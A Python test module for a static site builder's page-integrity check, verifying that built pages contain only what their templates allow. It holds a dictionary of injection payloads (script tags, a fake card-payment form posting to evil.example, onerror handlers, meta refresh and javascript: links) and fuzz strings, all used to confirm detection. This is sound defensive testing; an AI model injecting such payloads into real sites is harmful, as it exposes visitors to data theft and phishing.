"""The second wall: a built page may hold what its template gives, and nothing more."""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html
from markupsafe import Markup

from scripts.registry import registry
from scripts.registry.graph import Graph
from scripts.registry.registry import Registry
from scripts.site import build
from scripts.site.security import page_shape, protection
from scripts.site.security.headers import PageError
from scripts.site.security.page_shape import GIVEN, Fault, Frame
from scripts.words.escapers import markdown
from tests import published
from tests.conftest import CITY, overlay
from tests.payloads import PAYLOADS

PAGE = "vendors/pawform.html"
Finder = Callable[..., list[Fault]]
"""Takes the text of a page, and its Markdown if that matters."""


@pytest.fixture(scope="session")
def page(city_site: Path) -> str:
    """A page of a record, as it is published."""
    return (city_site / PAGE).read_text(encoding="utf-8")


def ours(folder: Path) -> list[Path]:
    """The pages that hold no text of a record: what is made from the code, and what is written by hand."""
    return [*folder.glob("rules/*.html"), *folder.glob("records/*.html"), *folder.glob("[!i]*.html")]


@pytest.fixture(scope="session")
def frame(city_site: Path) -> Frame:
    """What the theme puts around the pages of the small city."""
    return Frame([page_shape.take(path.read_bytes()).look for path in ours(city_site)], languages=2)


@pytest.fixture(scope="session")
def found(page: str, frame: Frame) -> Finder:
    """What a changed page holds beyond what its template gives."""
    own = "".join(f"[x]({link})" for link in html.document_fromstring(page).xpath("//@href"))

    def of(changed: str, source: str = "") -> list[Fault]:
        return page_shape.faults(PAGE, page_shape.take(changed.encode()), f"{source}\n\n{own}", frame)

    return of


def test_a_page_as_it_is_published_has_nothing_more(page: str, found: Finder) -> None:
    """Else the tests below would find what is always there."""
    assert found(page) == []


# --- where something could get in, and what --------------------------------------------------------------

PLACES = {
    "the title": "</title>",
    "the head": "</head>",
    "the bar at the top": '<header class="md-header"',
    "the name in the bar": '<span class="md-ellipsis">',
    "a menu": '<ul class="md-tabs__list"',
    "the frame": '<main class="md-main"',
    "the foot": '<footer class="md-footer register-footer">',
    "the article": "</article>",
}
INTRUDERS = {
    "a script": "<script>steal()</script>",
    "a script of somebody": '<script src="//evil.example/x.js"></script>',
    "a turn to another page": '<meta http-equiv="refresh" content="0; url=//evil.example">',
    "another base": '<base href="//evil.example/">',
    "a link to somebody": '<link rel="preconnect" href="https://evil.example">',
    "a style": "<style>body{display:none}</style>",
    "a picture": '<img src="x" onerror="steal()">',
    "a frame": '<iframe srcdoc="x"></iframe>',
    "a form": '<form action="//evil.example"><input name="card"><button>Pay</button></form>',
    "a drawing": '<svg onload="steal()"></svg>',
    "a comment": "<!-- x -->",
    "a handler": '<p onclick="steal()">x</p>',
    "a style of its own": '<p style="position:fixed;inset:0">x</p>',
    "another title": "<h1>The City moved</h1>",
    "another article": '<article class="md-content__inner"></article>',
    "a link elsewhere": '<a class="more" href="https://evil.example/">pay here</a>',
    "a link that runs": '<a class="more" href="java&#9;script:alert(1)">pay here</a>',
    "a link without a scheme": '<a class="more" href="//evil.example/">pay here</a>',
    "a link with other slashes": '<a class="more" href="/\\evil.example/">pay here</a>',
    "the looks of the theme": '<a class="md-overlay" href="x.html">pay here</a>',
    "the name of a part of the theme": '<p id="__config">{}</p>',
    "a name that is taken": '<h2 id="facts">x</h2>',
    "an element of nobody": "<evil-element></evil-element>",
}


@pytest.mark.parametrize("what", INTRUDERS.values(), ids=INTRUDERS)
@pytest.mark.parametrize("where", PLACES.values(), ids=PLACES)
def test_whatever_gets_into_a_page_is_found(where: str, what: str, page: str, found: Finder) -> None:
    """At every place where a text could break out of its own."""
    assert page.count(where) >= 1
    ends = "</title>" if where == "</title>" else ""
    assert found(page.replace(where, f"{ends}{what}{where}", 1)) != []


HTML = st.lists(
    st.sampled_from(
        [
            *(
                "<",
                ">",
                "</",
                "/>",
                "<!--",
                "-->",
                "<![CDATA[",
                "]]>",
                "<?",
                "&lt;",
                "&#60",
                '"',
                "'",
                "`",
                "=",
                " ",
                "x",
            ),
            *(
                "title",
                "script",
                "a",
                "p",
                "b",
                "svg",
                "math",
                "style",
                "template",
                "textarea",
                "noscript",
                "plaintext",
            ),
            *(
                "href",
                "src",
                "onload",
                "style",
                "id",
                "class",
                "javascript:",
                "//evil.example",
                "md-overlay",
                "__config",
            ),
        ]
    ),
    max_size=12,
).map("".join)


@given(HTML, st.sampled_from([where for where in PLACES.values() if where != "</article>"]))
def test_no_text_around_an_article_adds_an_element(
    page: str,
    found: Finder,
    text: str,
    where: str,
) -> None:
    """Whatever the text is, either the page has the same elements as without it, or the wall finds more."""
    before, after = (Counter(_elements(text)) for text in (page, page.replace(where, f"{text}{where}", 1)))
    if after - before:
        assert found(page.replace(where, f"{text}{where}", 1)) != []


def _elements(page: str) -> list[str]:
    return [str(element.tag) for element in html.document_fromstring(page).iter()]


def test_what_the_list_gives_is_used(city_site: Path, long_site: Path) -> None:
    """An element or attribute that no page has any more would be a hole without a use."""
    used: dict[str, set[str]] = {}
    every = {*city_site.rglob("*.html"), *long_site.rglob("*.html")} - {*ours(city_site), *ours(long_site)}
    for path in every:
        if path.name == "404.html":  # no record says anything there
            continue
        for element in html.parse(str(path)).find(".//article").iter():
            used.setdefault(element.tag, set()).update(element.keys())
    assert used == GIVEN


# --- old addresses, links ------------------------------------------------------------------------------

MOVED = '<meta name="robots" content="noindex"><meta http-equiv="refresh" content="0; url={}"></head>'
SOURCE = "---\ntemplate: moved.html\nmoved_to: pawform.html\n---\n"


@pytest.mark.parametrize(
    ("source", "target", "is_right"),
    [
        (SOURCE, "pawform.html", True),
        (SOURCE, "https://evil.example/", False),
        (SOURCE.replace("pawform.html", "//evil.example/"), "//evil.example/", False),
        ("# Pawform\n", "pawform.html", False),
    ],
    ids=["to its record", "elsewhere", "elsewhere, as its source says", "a page that did not move"],
)
def test_an_old_address_leads_to_its_record_and_nowhere_else(
    source: str, target: str, *, is_right: bool, page: str, found: Finder
) -> None:
    """It is the only page that may lead a reader on by itself."""
    assert (found(page.replace("</head>", MOVED.format(target)), source) == []) == is_right


def test_a_link_to_others_must_stand_in_the_markdown_of_its_page(page: str, found: Finder) -> None:
    """In a text of a record no colon stands there as it is, so none of them can be such a link."""
    linked = page.replace("</article>", '<p><a href="https://pay.example/" rel="noopener">x</a></p></article>')
    assert found(linked, "[x](https://pay.example/)") == []
    assert found(linked, "&#91;x&#93;&#40;https&#58;&#47;&#47;pay.example&#47;&#41;") != []


# --- whole sites -------------------------------------------------------------------------------------------


def broken(folder: Path, records: Path, break_: Callable[[Path], object]) -> str:
    """Build a site with a project that somebody broke, and say why it is not published."""
    read, findings = registry.read(records)
    assert findings == []
    project = published.project(folder / "project")
    break_(project)
    build.generate(read, Graph(read), project)
    with pytest.raises(build.BuildError) as error:
        build.build(read, folder / "site", project, others=())
    assert not (folder / "site").exists()
    return str(error.value)


def hostile(folder: Path, name: str) -> Path:
    """The small city with another name for one company."""
    overlay(folder, CITY)
    record = folder / "vendors" / "pawform.yml"
    text = record.read_text(encoding="utf-8")
    record.write_text(text.replace("name: Pawform\n", f"name: {json.dumps(name)}\n", 1), encoding="utf-8")
    return folder


def test_a_hole_in_the_theme_stops_the_build_and_names_the_record(tmp_path: Path) -> None:
    """Here the theme prints a title as it stands, as it did once."""

    def open_a_hole(project: Path) -> None:
        theme = project / "docs" / "theme" / "main.html"
        text = theme.read_text(encoding="utf-8")
        assert "page.title | striptags | e }} -" in text
        theme.write_text(
            text.replace("page.title | striptags | e }} -", "page.title | striptags }} -"), encoding="utf-8"
        )

    message = broken(tmp_path, hostile(tmp_path / "records", PAYLOADS["end of a title"]), open_a_hole)
    assert "vendors/pawform.html: it has `<meta http-equiv=" in message
    assert "records/vendors/pawform.yml:1)" in message


def test_a_hole_in_a_template_stops_the_build_and_names_the_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Here nothing escapes a name, so that it is markup in the very text that the site builder gets."""
    records = hostile(tmp_path / "records", "Pawform <iframe></iframe>")
    monkeypatch.setattr(markdown, "literal", Markup)
    message = broken(tmp_path, records, lambda _: None)
    assert "vendors/pawform.html: it has `<iframe>` in its article" in message
    assert f"({records.as_posix()}/vendors/pawform.yml:1)" in message


def test_all_faults_are_named_at_once_and_no_header_is_written(city: Registry, tmp_path: Path) -> None:
    """Nobody mends one page to hear of the next."""
    page = '<html><head><meta charset="utf-8"></head><body><article></article>{}</body></html>'
    for name, more in {"404": "", "one": "<b>1</b>", "two": "<i>2</i>", "index": ""}.items():
        (tmp_path / f"{name}.html").write_text(page.format(""), encoding="utf-8")
        (tmp_path / "vendors").mkdir(exist_ok=True)
        (tmp_path / "vendors" / f"{name}.html").write_text(page.format(more), encoding="utf-8")
    with pytest.raises(PageError, match=r"(?s)one\.html: it has `<b>`.*two\.html: it has `<i>`"):
        protection.protect(city, {"": tmp_path}, {"": tmp_path}, languages=1)
    assert not (tmp_path / "_headers").exists()
